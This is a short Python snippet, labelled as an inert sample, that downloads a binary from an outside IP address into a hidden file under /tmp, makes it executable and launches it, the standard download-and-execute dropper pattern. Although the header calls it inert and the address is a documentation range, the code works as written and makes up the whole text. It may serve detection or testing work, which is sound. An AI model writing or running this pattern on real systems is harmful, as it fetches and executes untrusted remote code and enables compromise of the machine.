# INERT SAMPLE: never run.
import os, stat, subprocess, urllib.request
target = "/tmp/.inert-update"
urllib.request.urlretrieve("http://192.0.2.20/update.bin", target)
os.chmod(target, stat.S_IRWXU)
subprocess.Popen([target])
